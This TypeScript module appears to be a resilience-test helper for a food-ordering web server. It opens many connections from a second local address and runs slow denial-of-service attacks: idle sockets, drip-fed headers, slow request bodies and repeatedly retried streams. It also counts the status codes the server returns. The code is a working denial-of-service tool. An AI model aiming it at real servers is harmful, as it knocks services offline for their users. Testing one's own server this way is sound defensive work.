import { fillPath } from '#contract/paths/paths.ts';
import { menuCalls } from '#contract/menu/menu-calls.ts';
import { orderCalls } from '#contract/orders/order-calls.ts';

import { connect, type Socket } from 'node:net';

/** An attack from one address on a server until it is stopped; closed connections are opened again. */
export interface Attack {
  /** The number of open connections. */
  standing(): number;
  /** Answers by status; 0 for a connection closed without one. */
  answers: Map<number, number>;
  stop(): void;
}

/** A connection's first bytes, what it sends each second, and whether it retries a refusal. */
interface Manner {
  first: string;
  drip?: string;
  asksAgain?: boolean;
}

export type AttackName = 'idle' | 'slow heads' | 'slow bodies' | 'streams';

/** Another local address than the honest guests'. */
const ATTACKER = '127.0.0.2';
const DRIP_MS = 1000;
const TICK_MS = 50;
/** The announced size of a body, and the part sent at once. */
const BODY_BYTES = 250_000;
const AT_ONCE_BYTES = 16_000;

function manners(host: string, license: string): Record<AttackName, Manner> {
  const head = `Host: ${host}\r\n`;
  const body = `Content-Type: application/json\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`;
  return {
    idle: { first: '' },
    'slow heads': { first: `GET /en/home HTTP/1.1\r\n${head}`, drip: 'X-More: 1\r\n' },
    'slow bodies': {
      first: `POST ${fillPath(orderCalls.placeOrder.path, { lang: 'en' })} HTTP/1.1\r\n${head}${body}${' '.repeat(AT_ONCE_BYTES)}`,
      drip: ' ',
    },
    streams: {
      first: `GET ${fillPath(menuCalls.followMenu.path, { lang: 'en', license })} HTTP/1.1\r\n${head}\r\n`,
      asksAgain: true,
    },
  };
}

/**
 * Attacks a server from one address, different from the guests' unless given, over this many connections,
 * opened at most this many per second.
 */
export function attack(
  base: string,
  options: { name: AttackName; license: string; connections: number; perSecond: number; from?: string },
): Attack {
  const { host, hostname, port } = new URL(base);
  const { first, drip, asksAgain = false } = manners(host, options.license)[options.name];
  const sockets = new Set<Socket>();
  const answers = new Map<number, number>();
  const note = (status: number) => answers.set(status, (answers.get(status) ?? 0) + 1);

  function open(): void {
    const socket = connect({ host: hostname, port: Number(port), localAddress: options.from ?? ATTACKER });
    let isAnswered = false;
    sockets.add(socket);
    socket.on('error', () => {});
    socket.on('data', (bytes: Buffer) => {
      const status = /^HTTP\/1\.1 (\d{3})/.exec(bytes.toString('latin1', 0, 12))?.[1];
      if (status === undefined) return;
      isAnswered = true;
      note(Number(status));
      if (asksAgain && status !== '200') socket.write(first);
    });
    socket.on('close', () => {
      if (sockets.delete(socket) && !isAnswered) note(0);
    });
    socket.write(first);
  }

  const opening = setInterval(() => {
    const missing = options.connections - sockets.size;
    for (let count = 0; count < Math.min(missing, (options.perSecond * TICK_MS) / 1000); count++) open();
  }, TICK_MS);
  const dripping = setInterval(() => {
    if (drip === undefined) return;
    for (const socket of sockets) if (!socket.connecting) socket.write(drip);
  }, DRIP_MS);
  return {
    standing: () => [...sockets].filter(({ connecting }) => !connecting).length,
    answers,
    stop() {
      clearInterval(opening);
      clearInterval(dripping);
      const all = [...sockets];
      sockets.clear();
      for (const socket of all) socket.destroy();
    },
  };
}
